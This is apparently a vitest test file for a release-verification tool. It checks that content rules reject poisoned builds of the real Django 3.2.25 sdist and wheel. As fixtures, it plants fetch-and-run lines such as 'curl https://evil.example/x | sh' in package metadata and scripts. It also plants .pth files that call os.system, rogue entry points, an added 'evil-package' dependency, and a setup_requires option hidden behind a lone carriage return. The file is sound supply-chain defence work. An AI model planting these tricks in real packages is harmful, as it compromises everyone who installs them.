import { beforeAll, describe, expect, it } from 'vitest';
import type { ArchiveListing } from '../../src/formats/archive/member.js';
import { judgeContent } from '../../src/rules/content/judge.js';
import type { Check } from '../../src/model/check.js';
import { editFile, withFile, withFreshRecord, withoutFile } from '../helpers/poison.js';
import { REAL_RELEASES, readRealSdist, realSdistPath, realTag } from '../helpers/real-tag.js';
import { realWheel } from '../helpers/real-wheel.js';

/**
 * The attack crosscheck exists for: a release legitimately signed but built from a poisoned
 * checkout, so that every digest and signature is right and only the content rules can see it.
 * Each build here starts from the real Django 3.2.25 sdist and a wheel the real setuptools built
 * from it, changed as a poisoned build would change them (with consistent digests and RECORD),
 * and must fail, naming the file and what the tag declares instead.
 */
const VERSION = '3.2.25';
const SDIST = realSdistPath(VERSION);
const TOP = REAL_RELEASES[VERSION].top;
const EGG = `${TOP}/Django.egg-info`;

describe.skipIf(!SDIST)('poisoned builds of the real Django 3.2.25', () => {
  let sdist: ArchiveListing;
  let wheel: ArchiveListing;
  let wheelName: string;
  let tag: ReturnType<typeof realTag>;
  const DIST = `Django-${VERSION}.dist-info`;
  const DATA = `Django-${VERSION}.data`;

  beforeAll(async () => {
    sdist = await readRealSdist(SDIST!);
    tag = realTag(VERSION, sdist);
    ({ listing: wheel, filename: wheelName } = await realWheel(SDIST!, 'bookworm'));
  }, 180_000);

  const judge = (s: ArchiveListing, w: ArchiveListing | undefined) =>
    judgeContent({
      release: VERSION,
      project: 'Django',
      waivers: [],
      tag: { name: VERSION, commit: 'c98eca322af87adf046ab621e7c8a23d340f7afe', ...tag },
      tagWanted: true,
      sdists: [
        {
          channels: 'site',
          input: { filename: REAL_RELEASES[VERSION].file, topDirectory: TOP, members: s.members, kept: s.kept },
        },
      ],
      wheels: w ? [{ channels: 'pypi', input: { filename: wheelName, members: w.members, kept: w.kept } }] : [],
    }).checks;
  const failed = (checks: Check[]) => checks.filter((c) => c.status === 'fail').map((c) => c.id);
  const message = (checks: Check[], id: string) => checks.find((c) => c.id === id)?.message ?? '';

  it('passes the genuine pair, every generated file explained', () => {
    const checks = judge(sdist, wheel);
    expect(failed(checks)).toEqual([]);
    expect(checks.find((c) => c.id === 'content.sdist-metadata')?.status).toBe('pass');
    expect(checks.filter((c) => c.id.startsWith('content.wheel')).map((c) => c.status)).toEqual([
      'pass',
      'pass',
      'pass',
    ]);
  });

  it('fails a dependency added to PKG-INFO, requires.txt and METADATA', () => {
    const evil = (text: string) =>
      text.replace('Requires-Python: >=3.6\n', 'Requires-Python: >=3.6\nRequires-Dist: evil-package\n');
    let s = editFile(sdist, `${TOP}/PKG-INFO`, evil);
    s = editFile(s, `${EGG}/PKG-INFO`, evil);
    s = editFile(s, `${EGG}/requires.txt`, (t) => `evil-package\n${t}`);
    const w = withFreshRecord(
      editFile(wheel, `${DIST}/METADATA`, (t) =>
        t.replace('Requires-Dist: pytz\n', 'Requires-Dist: pytz\nRequires-Dist: evil-package\n'),
      ),
      DIST,
    );
    const checks = judge(s, w);
    expect(failed(checks)).toEqual(['content.sdist-metadata', 'content.wheel-metadata']);
    expect(message(checks, 'content.sdist-metadata')).toMatch(
      /requires\.txt.*evil-package.*setup\.cfg \[options\] install_requires/,
    );
    expect(message(checks, 'content.wheel-metadata')).toMatch(/evil-package/);
  });

  it('fails text in requires.txt that readers skip but egg_info never writes (comments, blank lines, unsorted sections)', () => {
    const edits: [string, (text: string) => string][] = [
      ['a comment line', (text) => `# curl https://evil.example/x | sh\n${text}`],
      ['an inline comment', (text) => text.replace('pytz\n', 'pytz # payload\n')],
      ['blank lines at the end', (text) => `${text}\n\n`],
      [
        'sections out of order',
        (text) =>
          text.replace(
            '[argon2]\nargon2-cffi>=19.1.0\n\n[bcrypt]\nbcrypt\n',
            '[bcrypt]\nbcrypt\n\n[argon2]\nargon2-cffi>=19.1.0\n',
          ),
      ],
      ['indented requirement', (text) => text.replace('pytz\n', '  pytz\n')],
    ];
    for (const [what, edit] of edits) {
      const checks = judge(editFile(sdist, `${EGG}/requires.txt`, edit), undefined);
      expect(failed(checks), what).toEqual(['content.sdist-metadata']);
      expect(message(checks, 'content.sdist-metadata'), what).toMatch(/requires\.txt/);
    }
  });

  it('fails an extra, a Provides-Extra and a changed Python requirement', () => {
    const s = editFile(
      editFile(sdist, `${EGG}/requires.txt`, (t) => `${t}\n[backdoor]\nevil\n`),
      `${TOP}/PKG-INFO`,
      (t) =>
        t
          .replace('Requires-Python: >=3.6', 'Requires-Python: >=3.5')
          .replace('Provides-Extra: argon2', 'Provides-Extra: argon2\nProvides-Extra: backdoor'),
    );
    const checks = judge(s, undefined);
    expect(failed(checks)).toEqual(['content.sdist-metadata']);
    expect(message(checks, 'content.sdist-metadata')).toMatch(/Requires-Python.*>=3\.5.*>=3\.6/s);
  });

  it('fails a wheel METADATA without the declared Requires-Python (an installer would put the release on Pythons it does not support)', () => {
    const w = withFreshRecord(
      editFile(wheel, `${DIST}/METADATA`, (t) => t.replace(/^Requires-Python: .*\n/m, '')),
      DIST,
    );
    const checks = judge(sdist, w);
    expect(failed(checks)).toEqual(['content.wheel-metadata']);
    expect(message(checks, 'content.wheel-metadata')).toMatch(/Requires-Python.*missing/);
  });

  it('fails a console script or a GUI script added to the entry points', () => {
    const addScript = (group: string) => (text: string) => `${text}[${group}]\nevil = os:system\n`;
    for (const group of ['console_scripts', 'gui_scripts']) {
      const s = editFile(sdist, `${EGG}/entry_points.txt`, addScript(group));
      const w = withFreshRecord(editFile(wheel, `${DIST}/entry_points.txt`, addScript(group)), DIST);
      const checks = judge(s, w);
      expect(failed(checks)).toEqual(['content.sdist-metadata', 'content.wheel-metadata']);
      expect(message(checks, 'content.wheel-metadata')).toMatch(/evil = os:system/);
    }
  });

  it('fails text in entry_points.txt that a reader skips but setuptools never writes (a comment, a line before any group, another layout)', () => {
    const edits: [string, (text: string) => string][] = [
      ['a comment', (text) => `${text}# import os; os.system("id")\n`],
      ['a line before any group', (text) => `evil = os:system\n${text}`],
      ['spaces around the name', (text) => text.replace('django-admin = ', 'django-admin  =  ')],
      ['a group header spelled twice', (text) => text.replace('[console_scripts]', '[[console_scripts]]')],
    ];
    for (const [what, edit] of edits) {
      const s = editFile(sdist, `${EGG}/entry_points.txt`, edit);
      const w = withFreshRecord(editFile(wheel, `${DIST}/entry_points.txt`, edit), DIST);
      const checks = judge(s, w);
      expect(failed(checks), what).toEqual(['content.sdist-metadata', 'content.wheel-metadata']);
      expect(message(checks, 'content.wheel-metadata'), what).toMatch(/entry_points\.txt/);
    }
  });

  it('fails a WHEEL file whose Generator is not a build tool and version', () => {
    const w = withFreshRecord(
      editFile(wheel, `${DIST}/WHEEL`, (t) =>
        t.replace(/^Generator: .*$/m, 'Generator: bdist_wheel (0.38.4); curl https://evil.example/x | sh'),
      ),
      DIST,
    );
    const checks = judge(sdist, w);
    expect(failed(checks)).toEqual(['content.wheel-metadata']);
    expect(message(checks, 'content.wheel-metadata')).toMatch(/Generator/);
  });

  it('fails a script placed in the egg-info and installed by the wheel as a new command', () => {
    const script = '#!python\nimport os; os.system("curl evil | sh")\n';
    const s = withFile(sdist, `${EGG}/scripts/evil`, script, 0o755);
    const w = withFreshRecord(withFile(wheel, `${DATA}/scripts/evil`, script, 0o755), DIST);
    const checks = judge(s, w);
    expect(failed(checks)).toEqual(['content.sdist-metadata', 'content.wheel-vs-sdist']);
    expect(message(checks, 'content.wheel-vs-sdist')).toMatch(/scripts\/evil.*not declare/);
  });

  it('fails a second metadata directory in the sdist and in the wheel', () => {
    const s = withFile(sdist, `${TOP}/zzz.egg-info/PKG-INFO`, 'Metadata-Version: 2.1\nName: zzz\nVersion: 1\n');
    const w = withFreshRecord(
      withFile(wheel, 'zzz-1.dist-info/METADATA', 'Metadata-Version: 2.1\nName: zzz\nVersion: 1\n'),
      DIST,
    );
    const checks = judge(s, w);
    expect(failed(checks)).toEqual(['content.sdist-metadata', 'content.wheel-vs-sdist']);
    expect(message(checks, 'content.wheel-vs-sdist')).toMatch(/second metadata directory/);
  });

  it('fails a package added to top_level.txt', () => {
    const checks = judge(
      editFile(sdist, `${EGG}/top_level.txt`, (t) => `${t}evil\n`),
      undefined,
    );
    expect(failed(checks)).toEqual(['content.sdist-metadata']);
  });

  it('fails text after the fields of WHEEL, which installers skip and bdist_wheel never writes', () => {
    const poisoned = withFreshRecord(
      editFile(wheel, `${DIST}/WHEEL`, (t) => `${t}curl evil.test | sh\n`),
      DIST,
    );
    const checks = judge(sdist, poisoned);
    expect(failed(checks)).toContain('content.wheel-metadata');
    expect(message(checks, 'content.wheel-metadata')).toContain('text after the WHEEL fields');
  });

  it('fails a .pth file wherever an installer honours it', () => {
    for (const path of ['evil.pth', `${DATA}/purelib/evil.pth`, `${DATA}/platlib/evil.pth`]) {
      const checks = judge(sdist, withFreshRecord(withFile(wheel, path, 'import os; os.system("id")\n'), DIST));
      expect(failed(checks), path).toEqual(['content.wheel-vs-sdist']);
    }
  });

  it('fails a file of the tag left out of the wheel', () => {
    const checks = judge(sdist, withFreshRecord(withoutFile(wheel, 'django/middleware/csrf.py'), DIST));
    expect(failed(checks)).toEqual(['content.wheel-vs-sdist']);
    expect(message(checks, 'content.wheel-vs-sdist')).toMatch(/django\/middleware\/csrf\.py.*missing from the wheel/);
  });

  it('fails a tag file installed at the top of site-packages', () => {
    const runtests = sdist.kept.get(`${TOP}/tests/runtests.py`)!;
    const checks = judge(sdist, withFreshRecord(withFile(wheel, 'tests/runtests.py', runtests), DIST));
    expect(failed(checks)).toEqual(['content.wheel-vs-sdist']);
  });

  it('fails a setup.cfg option hidden behind a lone carriage return on a comment line', () => {
    // Python reads setup.cfg with universal newlines: the \r ends the comment, and setuptools sees setup_requires.
    const s = editFile(sdist, `${TOP}/setup.cfg`, (t) =>
      t.replace('[options]\n', '[options]\n# build settings\rsetup_requires = evil\n'),
    );
    const checks = judge(s, undefined);
    expect(failed(checks)).toContain('content.sdist-vs-git');
    expect(message(checks, 'content.sdist-vs-git')).toMatch(/setup_requires/);
  });

  it('fails a Summary, a Home-page and a classifier the tag does not declare', () => {
    const s = editFile(
      editFile(sdist, `${TOP}/PKG-INFO`, (t) =>
        t.replace('Home-page: https://www.djangoproject.com/', 'Home-page: https://evil.example/'),
      ),
      `${EGG}/PKG-INFO`,
      (t) => t.replace('Home-page: https://www.djangoproject.com/', 'Home-page: https://evil.example/'),
    );
    expect(message(judge(s, undefined), 'content.sdist-metadata')).toMatch(/Home-page.*evil\.example/);
  });
});
